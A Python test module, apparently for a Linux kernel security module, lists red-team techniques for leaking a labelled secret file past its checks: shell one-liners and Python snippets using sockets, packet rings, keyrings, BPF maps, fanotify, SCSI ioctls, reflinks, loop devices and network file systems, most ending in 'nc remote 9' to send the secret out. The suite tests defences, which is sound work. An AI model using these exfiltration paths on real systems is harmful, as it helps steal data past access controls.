# SPDX-License-Identifier: GPL-3.0-or-later
"""What a red team found: ways past calls that are compared. Each row is asked about, or refused with a notice."""

from tests.kernel.guest_run import SECRET
from tests.leaks.row import Leak, holds, snippet

SYSTEM = """
import ctypes, mmap, os, struct
system = ctypes.CDLL(None, use_errno=True)
def in_child(action):
    if not os.fork():
        action(read())
        os._exit(0)
    os.wait()
"""
MULTIPATH = """
import os, socket
client, server = {protocols}
listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM, server)
listener.bind(("127.0.0.1", 0))
listener.listen()
if not os.fork():
    data = b""
    connection = listener.accept()[0]
    while part := connection.recv(100):
        data += part
    send(data)
    os._exit(0)
with socket.socket(socket.AF_INET, socket.SOCK_STREAM, client) as way:
    way.connect(listener.getsockname())
    way.sendall(read())
os.wait()
"""
# The first message goes to the connected receiver on this machine, the second to the other host.
TWO_MESSAGES = SYSTEM + """
class Part(ctypes.Structure):
    _fields_ = [("base", ctypes.c_char_p), ("length", ctypes.c_size_t)]
class Message(ctypes.Structure):
    _fields_ = [("name", ctypes.c_char_p), ("name_length", ctypes.c_uint32), ("parts", ctypes.POINTER(Part)),
                ("part_count", ctypes.c_size_t), ("control", ctypes.c_void_p), ("control_length", ctypes.c_size_t),
                ("flags", ctypes.c_size_t), ("sent", ctypes.c_size_t)]
def message(name, data):
    return Message(name, len(name or b""), ctypes.pointer(Part(data, len(data))), 1, None, 0, 0, 0)
here, way = (socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(2))
here.bind(("10.77.0.1", 0))
way.connect(here.getsockname())
remote = struct.pack("=HH4s8x", socket.AF_INET, socket.htons(9), socket.inet_aton("10.77.0.2"))
data = read()
messages = (Message * 2)(message(None, data), message(remote, data))
if system.sendmmsg(way.fileno(), messages, 2, 0) == 1:
    system.sendmmsg(way.fileno(), ctypes.byref(messages, ctypes.sizeof(Message)), 1, 0)
"""
# It writes the same byte at places that tell the secret, and another program looks where.
POSITIONS = SYSTEM + """
def action(data):
    fd = os.open("other", os.O_WRONLY | os.O_CREAT)
    for number, byte in enumerate(data):
        os.pwrite(fd, b"x", number * 256 + byte)
in_child(action)
with open("other", "rb") as file:
    told = file.read()
send(bytes(place % 256 for place in range(len(told)) if told[place:place + 1] == b"x"))
"""
# The kernel sends what lies in the ring. The call itself has no data.
RING = SYSTEM + """
data = read()
packet = struct.pack("!HHHH", 4000, 9, 8 + len(data), 0) + data
header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(packet), 1, 0, 9, 17, 0, bytes([10, 77, 0, 1]), bytes([10, 77, 0, 2]))
total = sum(struct.unpack("!10H", header))
packet = header[:10] + struct.pack("!H", 0xffff & ~(total + (total >> 16))) + header[12:] + packet
way = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
way.setsockopt(263, 13, struct.pack("IIII", 4096, 1, 2048, 2))
way.bind(("to-remote", 0x0800, 0, 0, b"\\xff" * 6))
ring = mmap.mmap(way.fileno(), 4096, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE)
ring[32:32 + len(packet)] = packet
ring[8:12] = struct.pack("I", len(packet))
ring[0:8] = struct.pack("Q", 1)
system.sendto(way.fileno(), None, 0, 0, struct.pack("=HHiHBB8s", 17, socket.htons(0x0800), socket.if_nametoindex("to-remote"), 0, 0, 6,
              b"\\xff" * 6), 20)
"""
KEY = SYSTEM + """
key = system.syscall(248, b"user", b"row", b"x", 1, -3)
in_child(lambda data: system.syscall(250, 2, key, data, len(data)))
room = ctypes.create_string_buffer(200)
length = system.syscall(250, 11, key, room, 200)
send(room.raw[:length])
"""
MAP_OF_BPF = SYSTEM + """
def bpf(command, form, *values):
    packed = struct.pack(form, *values)
    return system.syscall(321, command, packed, len(packed))
table, key, room = bpf(0, "IIII", 2, 4, 64, 1), ctypes.create_string_buffer(4), ctypes.create_string_buffer(64)
def action(data):
    value = ctypes.create_string_buffer(data, 64)
    bpf(2, "IIQQQ", table, 0, ctypes.addressof(key), ctypes.addressof(value), 0)
in_child(action)
bpf(1, "IIQQQ", table, 0, ctypes.addressof(key), ctypes.addressof(room), 0)
send(room.raw.rstrip(bytes(1)) or b"nothing")
"""
MADE_WRITABLE = SYSTEM + """
fd = os.open("other", os.O_RDWR | os.O_CREAT)
os.ftruncate(fd, 4096)
system.mmap.restype = ctypes.c_void_p
place = system.mmap(None, 4096, 1, 1, fd, 0)
def action(data):
    {change}(ctypes.c_void_p(place), 4096, 3{rest})
    ctypes.memmove(place, data, len(data))
in_child(action)
with open("other", "rb") as file:
    send(file.read(100).rstrip(bytes(1)) or b"nothing")
"""
# The parent has the file without a name before its child writes into it.
MEMORY_FILE = SYSTEM + """
fd = os.memfd_create("way")
in_child(lambda data: os.write(fd, data))
send(os.pread(fd, 100, 0))
"""
# A scanner gets a descriptor with the event.
EVENT_OF_SCANNER = SYSTEM + """
group = system.fanotify_init(4, os.O_RDONLY)
system.fanotify_mark(group, 1, ctypes.c_uint64(0x20), -100, b"secret")
if not os.fork():
    os.close(os.open("secret", os.O_RDONLY))
    os._exit(0)
os.wait()
fd = struct.unpack("IBBHQii", os.read(group, 4096)[:24])[5]
data = {get}
send(data)
"""
# Writes a sector of a disk by a SCSI command; another program reads the disk.
COMMAND = SYSTEM + """
import fcntl, glob
disk = os.path.basename(glob.glob("/sys/block/sd*")[0])
def action(data):
    sector, command = ctypes.create_string_buffer(data, 512), ctypes.create_string_buffer(bytes([0x2a, 0, 0, 0, 0, 0, 0, 0, 1, 0]), 10)
    header = struct.pack("=iiBBHIQQQIIiQBBBBHHiII", ord("S"), -2, 10, 0, 0, 512, ctypes.addressof(sector), ctypes.addressof(command), 0,
                         9000, 0, 0, 0, *[0] * 9)
    with open("/dev/" + disk, "rb") as device:
        fcntl.ioctl(device, 0x2285, header)
in_child(action)
with open("/dev/" + disk, "rb") as device:
    send(device.read(512).rstrip(bytes(1)) or b"nothing")
"""
# A file system of the other host, whose mount tells it a name.
NAME_OF_TREE = """
import socket, struct
def take(connection):
    size = struct.unpack("<I", connection.recv(4, socket.MSG_WAITALL))[0]
    return connection.recv(size - 4, socket.MSG_WAITALL)
with socket.create_server(("10.77.0.2", 564)) as server:
    open("serves", "w").close()
    connection = server.accept()[0]
    take(connection)
    connection.sendall(struct.pack("<IBHIH", 21, 101, 0xffff, 8192, 8) + b"9P2000.L")
    told = take(connection)
with socket.create_connection(("10.77.0.2", 9)) as way:
    way.sendall(told)
"""

DISK = "modprobe brd rd_nr=1 rd_size=8192; mke2fs -q /dev/ram0; mkdir disk; mount /dev/ram0 disk; "

# A file system over SFTP. The other host sends on what it got.
SFTP_SERVER = """
import socket, subprocess
with socket.create_server(("10.77.0.2", 22)) as server:
    open("serves", "w").close()
    connection = server.accept()[0]
    subprocess.run(["sftp-server"], stdin=connection, stdout=connection)
with open("there/copy", "rb") as file, socket.create_connection(("10.77.0.2", 9)) as way:
    way.sendall(file.read())
"""
# serve HOST: exports the folder `there` by the kernel's NFS server, on this host or the other one.
NFS_SERVER = """
cat >serve.sh <<'END'
[[ -e /proc/fs/nfsd/threads ]] || mount -t nfsd nfsd /proc/fs/nfsd
mkdir -p /run/rpc_pipefs /var/lib/nfs/nfsdcld
[[ -e /run/rpc_pipefs/nfsd ]] || mount -t rpc_pipefs rpc_pipefs /run/rpc_pipefs
touch /etc/exports /var/lib/nfs/etab /var/lib/nfs/rmtab
# Without it a server waits for a minute and a half before it takes writes. The kernel does not wait for it long.
nfsdcld -p /run/rpc_pipefs
rpc.mountd -N 3
exportfs -o rw,no_root_squash,insecure,fsid=0,no_subtree_check "*:$PWD/there"
for try in 1 2 3 4 5; do
    rpc.nfsd -N 3 -N 4.0 -U 1
    dmesg | grep 'client.*tracking' | tail -1 | grep -q 'Using nfsdcld' && break
    rpc.nfsd 0; sleep 1
done
END
modprobe -a nfsd nfsv4
mkdir there tree
"""


def on_image(kind, size, options=""):
    """A shell script that mounts an image with this file system at `disk`."""
    return f"truncate -s {size}M image; modprobe loop max_part=4; modprobe {kind}; mkfs.{kind} {options} image >/dev/null; mkdir disk; mount -t {kind} -o loop image disk; "


def multipath(client, server):
    return snippet(MULTIPATH.format(protocols=(client, server)))


def scripts():
    """Name -> shell script: somebody is asked."""
    return {
        "multipath-server": multipath(0, 262),
        "multipath": multipath(262, 262),
        "multipath-client": multipath(262, 0),
        "second-of-two-messages": snippet(TWO_MESSAGES),
        "packet-ring": snippet(RING),
        "position-of-write": snippet(POSITIONS),
        "mapping-made-writable": snippet(MADE_WRITABLE.format(change="system.mprotect", rest="")),
        "mapping-made-writable-with-key": snippet(MADE_WRITABLE.format(change="system.pkey_mprotect", rest=", -1")),
        "memory-file-of-parent": snippet(MEMORY_FILE),
        "event-of-scanner": snippet(EVENT_OF_SCANNER.format(get="os.read(fd, 100)")),
        "event-of-scanner-mapped": snippet(EVENT_OF_SCANNER.format(get="mmap.mmap(fd, 0, mmap.MAP_SHARED, mmap.PROT_READ)[:]")),
        # Whoever reads a terminal and is no window.
        "own-terminal": "way terminal secret",
        "terminal-of-another": "script -qc 'cat secret' /dev/null < /dev/null | nc remote 9",
        "file-of-terminal": "script -qc 'cat secret' shown < /dev/null > /dev/null; nc remote 9 < shown",
        # Memory that processes share.
        **{way: f"way {way} secret" for way in
           ("shared-anonymous", "shared-sysv", "shared-sysv-late", "shared-posix", "shared-memory-file", "shared-memory-file-read", "shared-memory-file-privately",
            "shared-passed", "shared-watched", "shared-with-threads",
            "child-in-same-memory", "parent-in-same-memory")},
        # A label that comes while a call is under way.
        **{way: f"way {way} secret" for way in ("labelled-while-read", "labelled-while-mapping")},
        # File systems that share blocks, and those that take no label.
        "btrfs-snapshot": on_image("btrfs", 128) + "btrfs -q subvolume create disk/one; cp secret disk/one/copy; "
                          "btrfs -q subvolume snapshot disk/one disk/two; nc remote 9 < disk/two/copy; umount disk",
        "btrfs-reflink": on_image("btrfs", 128) + "cp secret disk/copy; cp --reflink=always disk/copy disk/other; nc remote 9 < disk/other; "
                         "umount disk",
        "xfs-reflink": on_image("xfs", 320) + "cp secret disk/copy; cp --reflink=always disk/copy disk/other; nc remote 9 < disk/other; "
                       "umount disk",
        "fat-stick": on_image("vfat", 8) + "cp secret disk/copy; umount disk; grep -a -m 1 Sphinx image | nc remote 9",
        "exfat-stick": on_image("exfat", 8) + "cp secret disk/copy; umount disk; grep -a -m 1 Sphinx image | nc remote 9",
        "sshfs": f"cat >serve.py <<'END'{SFTP_SERVER}END\nmkdir there tree; remote-exec python3 -I serve.py & "
                 "until [[ -e serves ]]; do sleep 0.02; done; "
                 "sshfs -o directport=22 10.77.0.2:$PWD/there tree; cp secret tree/copy; umount tree; wait",
        "nfs-mount": NFS_SERVER + "remote-exec bash serve.sh; mount -t nfs4 -o vers=4.2,addr=10.77.0.2,clientaddr=10.77.0.1 10.77.0.2:/ tree; "
                     "cp secret tree/copy; umount tree; remote-exec nc remote 9 < there/copy",
        # A disk that comes again. Nobody tells the module of the file.
        "disk-that-comes-again": DISK + "cp secret disk/copy; umount disk; mount /dev/ram0 disk; nc remote 9 < disk/copy; umount disk",
        "linked-where-none-looks": DISK + "cp secret disk/copy; ln disk/copy disk/other; umount disk; mount /dev/ram0 disk; mv disk/other "
                                   "disk/third; nc remote 9 < disk/third; umount disk",
        "disk-that-comes-again-mapped": DISK + "cp secret disk/copy; umount disk; mount /dev/ram0 disk; "
                                        "way mapped-after disk/copy; umount disk",
        "mounted-partition": "truncate -s 8M image; modprobe loop max_part=4; printf 'n\\np\\n1\\n\\n\\nw\\n' | fdisk image; "
                             "losetup /dev/loop6 image; blockdev --rereadpt /dev/loop6; sleep 0.5; "
                             "mke2fs -q /dev/loop6p1; mkdir inside; mount /dev/loop6p1 inside; cp secret inside/copy; umount inside; "
                             "losetup -d /dev/loop6; grep -a -m 1 Sphinx image | nc remote 9",
        "mounted-image": "truncate -s 4M image; mke2fs -q image; mkdir inside; mount -o loop image inside; cp secret inside/copy; "
                         "umount inside; grep -a -m 1 Sphinx image | nc remote 9",
    }


LEAKS = [Leak(name, script) for name, script in scripts().items()] + [
    Leak("loop-device-early", "truncate -s 4096 image; modprobe loop; losetup /dev/loop7 image; cat secret 1<> image; "
         "head -c 55 /dev/loop7 | nc remote 9; losetup -d /dev/loop7", passes=rb"\0*"),
]
# The module refuses what takes no label, and tells so.
REFUSED = [
    Leak("loop-device", "cp secret image; truncate -s 4096 image; modprobe loop; losetup /dev/loop7 image && head -c 55 /dev/loop7 | nc remote 9; "
         "losetup -d /dev/loop7"),
    Leak("command-to-disk", "modprobe sd_mod; modprobe scsi_debug dev_size_mb=8; until [[ -e /sys/block/sda ]]; do sleep 0.1; done\n"
         + snippet(COMMAND), passes=b"nothing"),
    Leak("kernel-nfs-server", NFS_SERVER + "bash serve.sh; cp secret there/copy; "
         "remote-exec bash -c 'mount -t nfs4 -o vers=4.2,addr=10.77.0.1,clientaddr=10.77.0.2 10.77.0.1:/ tree && "
         "dd if=tree/copy | nc 10.77.0.2 9; umount tree'; rpc.nfsd 0"),
    Leak("scsi-target", "cp secret image; truncate -s 1M image; modprobe -a target_core_file tcm_loop sd_mod; "
         "mount -t configfs none /sys/kernel/config 2>/dev/null\n"
         "target=/sys/kernel/config/target; mkdir -p $target/core/fileio_0/disk $target/loopback/naa.6001405000000001/tpgt_1/lun/lun_0\n"
         "echo fd_dev_name=$PWD/image,fd_dev_size=1048576 > $target/core/fileio_0/disk/control; echo 1 > $target/core/fileio_0/disk/enable\n"
         "echo naa.6001405000000002 > $target/loopback/naa.6001405000000001/tpgt_1/nexus\n"
         "ln -s $target/core/fileio_0/disk $target/loopback/naa.6001405000000001/tpgt_1/lun/lun_0/link\n"
         "sleep 1; disk=$(grep -l FILEIO /sys/block/sd*/device/model | cut -d/ -f4); head -c 55 /dev/$disk | nc remote 9\n"
         "cd $target/loopback/naa.6001405000000001; rm tpgt_1/lun/lun_0/link; rmdir tpgt_1/lun/lun_0 tpgt_1 .; cd ../../core; "
         "rmdir fileio_0/disk fileio_0", passes=rb"\0*"),
    Leak("key-updated", snippet(KEY), passes=b"x"),
    Leak("key-updated-by-odd-number", snippet(KEY.replace("syscall(250, 2, key, data", "syscall(250, ctypes.c_long(2 + (1 << 32)), key, data")),
         passes=b"x"),
    Leak("map-of-bpf", snippet(MAP_OF_BPF), passes=b"nothing"),
    Leak("name-of-mounted-tree", f"cat >serve.py <<'END'{NAME_OF_TREE}END\nremote-exec python3 -I serve.py & until [[ -e serves ]]; do sleep 0.02; done\n"
         "modprobe 9p; mkdir tree; mount -t 9p -o \"trans=tcp,version=9p2000.L,aname=$(sed -n 2p secret | tr , .)\" 10.77.0.2 tree & sleep 5; kill $!",
         shows=holds(SECRET)),
]
